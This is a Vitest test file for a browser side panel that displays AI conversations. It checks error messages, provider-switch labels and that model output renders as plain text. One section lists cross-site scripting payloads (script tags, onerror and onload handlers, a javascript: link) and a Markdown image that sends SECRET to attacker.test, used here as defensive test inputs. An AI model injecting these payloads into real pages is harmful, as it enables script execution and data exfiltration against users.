// @vitest-environment happy-dom
import '../testing/happy-dom-compat';
import { act, cleanup, screen, within } from '@testing-library/preact';
import { afterEach, describe, expect, it } from 'vitest';
import type { ConversationMeta, ErrorCode } from '../../lib/messaging/protocol';
import type { Block, Turn } from '../../lib/transcript/schema';
import { conversationMeta, openConversation } from '../testing/open-conversation';

afterEach(cleanup);

const meta = (over: Partial<ConversationMeta> = {}) => conversationMeta('c1', { title: 'Chat', turnCount: 2, ...over });
const user = (id: string, text = 'question'): Turn => ({ id, role: 'user', blocks: [{ type: 'text', text }] });
const answer = (
  id: string,
  provider: string,
  model: string,
  blocks: Block[] = [{ type: 'text', text: `answer ${id}` }],
  over: Partial<Turn> = {},
): Turn => ({
  id,
  role: 'assistant',
  origin: {
    provider,
    api:
      provider === 'google'
        ? 'gemini-generate-content'
        : provider === 'anthropic'
          ? 'anthropic-messages'
          : 'openai-responses',
    model,
  },
  status: 'complete',
  blocks,
  ...over,
});

/** Renders the side panel with conversation c1 open, holding `turns`. */
function openWith(turns: Turn[], listMeta: ConversationMeta = meta()) {
  return openConversation(listMeta, turns, { listModels: () => [] }, { openOptions: () => undefined });
}

const RAW = '400 {"type":"error","error":{"type":"invalid_request_error","message":"the upstream said no"}}';

/** What a person must read for each code (an independent table, not the implementation's). */
const EXPECTED: Record<ErrorCode, string> = {
  no_key: 'There is no API key for this provider',
  invalid_key: 'The provider rejected the API key',
  locked: 'Your keys are locked',
  rate_limited: 'Try again in 30 seconds',
  quota: 'run out of quota or credit',
  overloaded: 'The provider is overloaded right now',
  context_too_long: 'too long for the selected model',
  blocked: 'safety filter blocked',
  network: 'Could not reach the provider',
  timeout: 'took too long to answer',
  endpoint_not_permitted: 'no permission to reach this address, so nothing was sent',
  provider_error: 'The provider had a problem answering',
  storage_full: 'Browser storage is full',
  busy: 'still being written',
  bad_request: 'refused the request as invalid',
  forbidden: 'Access was refused',
  not_found: 'check the model id',
  internal: 'Something went wrong inside Baton',
  confirmation_required: 'has not received this conversation yet',
  policy_forbidden: 'does not allow this provider, so nothing was sent',
  not_received: 'has not received any of this conversation, so Baton did not ask it to count',
};
const OPTIONS_LINK: ErrorCode[] = ['no_key', 'invalid_key', 'locked', 'endpoint_not_permitted'];

describe('errors of a failed answer', () => {
  for (const [code, sentence] of Object.entries(EXPECTED) as [ErrorCode, string][]) {
    it(`${code}: shows its sentence, the cleaned detail, Retry, and no raw JSON`, async () => {
      await openWith([
        user('u1'),
        answer('a1', 'openai', 'gpt-5', [{ type: 'text', text: 'partial' }], {
          status: 'error',
          error: { type: code, message: RAW },
        }),
      ]);
      const alert = screen.getByRole('alert');
      // rate_limited without retryAfterSec on the turn: the live event carries it (below)
      if (code !== 'rate_limited') expect(alert.textContent).toContain(sentence);
      expect(alert.textContent).toContain('Details: 400 the upstream said no');
      expect(document.body.textContent).not.toContain('{"');
      expect(document.body.textContent).not.toContain('invalid_request_error');
      expect(within(alert).queryByRole('button', { name: 'Open options' }) !== null).toBe(OPTIONS_LINK.includes(code));
      expect(screen.getByRole('button', { name: 'Retry' })).toBeTruthy();
    });
  }

  it('uses the live error (with its retry time) over the stored one', async () => {
    const m = await openWith([
      user('u1'),
      answer('a1', 'openai', 'gpt-5', [], { status: 'error', error: { type: 'rate_limited', message: '429' } }),
    ]);
    expect(screen.getByRole('alert').textContent).toContain('Wait a minute, then try again.');
    act(() =>
      m.emit({
        type: 'sendStateChanged',
        conversationId: 'c1',
        state: 'idle',
        error: { code: 'rate_limited', message: '429', retryAfterSec: 30 },
      }),
    );
    act(() => m.emit({ type: 'sendStateChanged', conversationId: 'c1', state: 'idle' }));
    expect(screen.getByRole('alert').textContent).toContain(EXPECTED.rate_limited);
  });

  it('a provider error type from the stream maps to a known sentence', async () => {
    await openWith([
      user('u1'),
      answer('a1', 'anthropic', 'claude', [{ type: 'text', text: 'half' }], {
        status: 'error',
        error: { type: 'overloaded_error', message: 'Overloaded' },
      }),
    ]);
    expect(screen.getByRole('alert').textContent).toContain(EXPECTED.overloaded);
    expect(screen.getByText('half')).toBeTruthy();
  });
});

describe('model output is text, never HTML (R1–R3)', () => {
  const PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    '<script>window.__pwned=1</script>',
    '<svg onload="window.__pwned=1"></svg>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '![x](https://attacker.test/p?q=SECRET) <a href="javascript:alert(1)">click</a>',
  ];

  it('renders every payload literally in text, thinking, tool calls, errors and titles, creating no element', async () => {
    const all = PAYLOADS.join('\n');
    await openWith(
      [
        user('u1', all),
        answer('a1', 'anthropic', 'claude', [
          { type: 'thinking', text: all, signature: 'sig' },
          { type: 'tool_call', id: 'call_1', name: '<img src=x onerror=alert(1)>', input: { q: all } },
          { type: 'text', text: all },
        ]),
        { id: 't1', role: 'tool', blocks: [{ type: 'tool_result', callId: 'call_1', content: all }] },
        answer('a2', 'anthropic', 'claude', [{ type: 'text', text: all }], {
          status: 'error',
          error: { type: 'provider_error', message: PAYLOADS[0]! },
        }),
      ],
      meta({ title: PAYLOADS[0]!, preview: PAYLOADS[1]! }),
    );
    for (const tag of ['img', 'script', 'iframe', 'a']) expect(document.body.querySelector(tag)).toBeNull();
    // The only SVG is the panel's own decorative icons (components/icons.tsx), none inside a turn or a title.
    for (const svg of document.body.querySelectorAll('svg')) {
      expect(svg.matches('svg.icon[aria-hidden="true"]')).toBe(true);
      expect(svg.closest('[data-turn-id], [data-conversation-id]')).toBeNull();
    }
    for (const el of document.body.querySelectorAll('*'))
      for (const attr of el.getAttributeNames()) expect(attr.startsWith('on')).toBe(false);
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
    const a1 = document.querySelector('[data-turn-id="a1"]')!;
    expect(a1.textContent).toContain('<img src=x onerror="window.__pwned=1">');
    expect(a1.textContent).toContain('<script>window.__pwned=1</script>');
    // Thinking is one collapsed section; the tool call is one collapsed line in the turn's tool group.
    expect(a1.querySelectorAll('details.block-thinking:not([open])')).toHaveLength(1);
    expect(a1.querySelectorAll('details.tool-call:not([open])')).toHaveLength(1);
    // The user's message is rendered as Markdown, and stays inert too.
    expect(document.querySelector('[data-turn-id="u1"] .markdown')!.textContent).toContain(
      '<script>window.__pwned=1</script>',
    );
    expect(document.querySelector('[data-conversation-id="c1"]')!.textContent).toContain(PAYLOADS[0]);
    expect(screen.getByRole('alert').textContent).toContain(PAYLOADS[0]);
  });

  it('shows a remote image as its URL, without fetching it (R3)', async () => {
    await openWith([
      user('u1'),
      answer('a1', 'openai', 'gpt-5', [
        { type: 'image', mediaType: 'image/png', url: 'https://attacker.test/p?q=SECRET' },
      ]),
    ]);
    expect(document.querySelector('img')).toBeNull();
    expect(document.querySelector('[data-turn-id="a1"]')!.textContent).toContain(
      '[Image: https://attacker.test/p?q=SECRET]',
    );
  });
});

describe('origins and provider switches', () => {
  it('labels each answer with its model and marks where the provider changed', async () => {
    await openWith([
      user('u1'),
      answer('a1', 'openai', 'gpt-5'),
      user('u2'),
      answer('a2', 'anthropic', 'claude-sonnet-4-5', [
        { type: 'thinking', text: 'hmm', signature: 's' },
        { type: 'text', text: 'answer a2' },
      ]),
      user('u3'),
      answer('a3', 'anthropic', 'claude-opus-4-1'),
      user('u4'),
      answer('a4', 'google', 'gemini-2.5-pro'),
    ]);
    const markers = [...document.querySelectorAll('[data-provider-switch]')].map((e) => e.textContent);
    expect(markers).toEqual(['Switched from OpenAI to Anthropic', 'Switched from Anthropic to Google Gemini']);
    const origin = (id: string) => document.querySelector(`[data-turn-id="${id}"] .turn-origin`)!.textContent;
    // Once per turn, in words (docs/side-panel.md): the model's name, then the provider's.
    expect([origin('a1'), origin('a2'), origin('a3'), origin('a4')]).toEqual([
      'GPT-5 · OpenAI',
      'Claude Sonnet 4.5 · Anthropic',
      'Claude Opus 4.1 · Anthropic',
      'Gemini 2.5 Pro · Google Gemini',
    ]);
    expect(document.querySelector('[data-turn-id="a2"] details summary')!.textContent).toBe('Thinking');
    // the marker sits right before the answer of the new provider
    expect(
      document.querySelector('[data-turn-id="a2"]')!.previousElementSibling!.hasAttribute('data-provider-switch'),
    ).toBe(true);
    expect(document.querySelector('[data-turn-id="u1"]')!.getAttribute('data-role')).toBe('user');
  });

  it('names P4 finishes instead of showing a plain answer', async () => {
    await openWith([
      user('u1'),
      answer('a1', 'google', 'gemini-2.5-pro', [], {
        status: 'error',
        stopReason: 'content_filter',
        meta: { rawStopReason: 'SAFETY' },
        error: { type: 'blocked', message: 'prompt blocked: SAFETY' },
      }),
    ]);
    const a1 = document.querySelector('[data-turn-id="a1"]')!;
    // P4: a blocked prompt is its own labelled state, never an empty bubble
    expect(a1.querySelector('[data-finish]')!.getAttribute('data-finish')).toBe('prompt_blocked');
    expect(a1.textContent).toContain('prompt blocked: SAFETY.');
    expect(screen.getByRole('alert').textContent).toContain('Details: prompt blocked: SAFETY');
  });
});
